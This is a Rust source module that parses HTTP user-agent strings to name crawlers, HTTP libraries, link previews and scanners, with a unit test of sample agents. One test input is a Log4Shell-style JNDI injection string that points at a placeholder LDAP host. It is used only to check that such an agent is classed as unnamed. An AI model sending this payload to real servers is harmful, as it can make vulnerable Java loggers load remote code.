//! The names of programs: crawlers, libraries, previews, scanners.

use super::lists::{APP_LIBRARIES, CRAWLERS, HTTP_LIBRARIES, LINK_PREVIEWS, SCANNERS};
use super::names::Found;
use super::pattern::AgentText;
use super::shapes;
use super::version;

/// A program: its name, and its version where it has one.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Program {
    /// The name, as the program writes it.
    pub name: String,
    /// The version.
    pub version: Option<String>,
}

/// The program, where the agent is one's.
pub fn program(agent: &AgentText<'_>) -> Option<Program> {
    let text = agent.claims();
    let listed = [&SCANNERS, &LINK_PREVIEWS, &APP_LIBRARIES, &HTTP_LIBRARIES]
        .into_iter()
        .find_map(|names| names.first_in(text))
        .map(|found| (found.start, found.end));
    let place = match listed {
        Some(place) => place,
        None => crawler_name(agent)?,
    };
    Some(named(agent, place))
}

/// Where the name of a crawler stands.
fn crawler_name(agent: &AgentText<'_>) -> Option<(usize, usize)> {
    let text = agent.claims();
    let crawler = CRAWLERS.first_in(text);
    if crawler.is_none() && !shapes::is_program(agent) {
        return None;
    }
    if !text.starts_with(b"mozilla") {
        return Some((0, product_len(text)));
    }
    let listed = || crawler.filter(is_name(text)).map(|found| (found.start, found.end));
    Some(shapes::name(agent).or_else(listed).or_else(|| site(text)).unwrap_or_default())
}

/// Whether what was found of a crawler is its name: `+http` is none.
fn is_name(text: &[u8]) -> impl Fn(&Found) -> bool + '_ {
    |found| text[found.start].is_ascii_alphanumeric()
}

/// A product ends at its version, a comment, a dash or a browser's name.
fn product_len(text: &[u8]) -> usize {
    let mark = text.iter().position(|byte| b"/(;,:".contains(byte));
    let others = [&b" - "[..], b" mozilla"].into_iter().filter_map(|other| memchr::memmem::find(text, other));
    mark.into_iter().chain(others).min().unwrap_or(text.len()).min(MAX_NAME)
}

/// The site that an agent names.
fn site(text: &[u8]) -> Option<(usize, usize)> {
    let find = |mark: &[u8]| memchr::memmem::find(text, mark).map(|at| at + mark.len());
    let start = find(b"://www.").or_else(|| find(b"://"))?;
    Some((start, start + product_len(&text[start..])))
}

/// What a program is called that gives no name.
const UNNAMED: &str = "unnamed program";

/// Names are cut here: some agents are whole sentences.
const MAX_NAME: usize = 40;

fn named(agent: &AgentText<'_>, (start, end): (usize, usize)) -> Program {
    let raw = agent.raw();
    // Marks end in the middle of a word, or with the slash before the version.
    let end = end - raw[start..end].iter().rev().take_while(|byte| !byte.is_ascii_alphanumeric()).count();
    let rest = raw[end..].iter().take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_'));
    let end = end + rest.count();
    let name = String::from_utf8_lossy(raw[start..end].trim_ascii()).into_owned();
    if !name.starts_with(|c: char| c.is_ascii_alphanumeric()) {
        return Program { name: UNNAMED.to_owned(), version: None };
    }
    Program { name, version: version::behind(raw, end) }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_programs() {
        for (agent, expected) in [
            ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot 2.1"),
            ("curl/8.4.0", "curl 8.4.0"),
            ("python-requests/2.31.0", "python-requests 2.31.0"),
            ("BoardReader Blog Indexer(http://boardreader.com)", "BoardReader Blog Indexer"),
            ("Mozilla/5.0 (compatible; +http://tweetedtimes.com)", "tweetedtimes.com"),
            ("Better Uptime Bot Mozilla/5.0 (Windows NT 10.0)", "Better Uptime Bot"),
            ("${jndi:ldap://example.org/a}", "unnamed program"),
            ("yacybot (/global; amd64 Linux) http://yacy.net/bot.html", "yacybot"),
        ] {
            let found = program(&AgentText::new(agent.as_bytes())).expect("it is a program's");
            let text = [Some(found.name), found.version].into_iter().flatten().collect::<Vec<_>>().join(" ");
            assert_eq!(text, expected, "{agent}");
        }
        assert_eq!(program(&AgentText::new(b"Mozilla/5.0 (Linux; Android 8.1.0; CUBOT J9) Chrome/78.0")), None);
    }
}
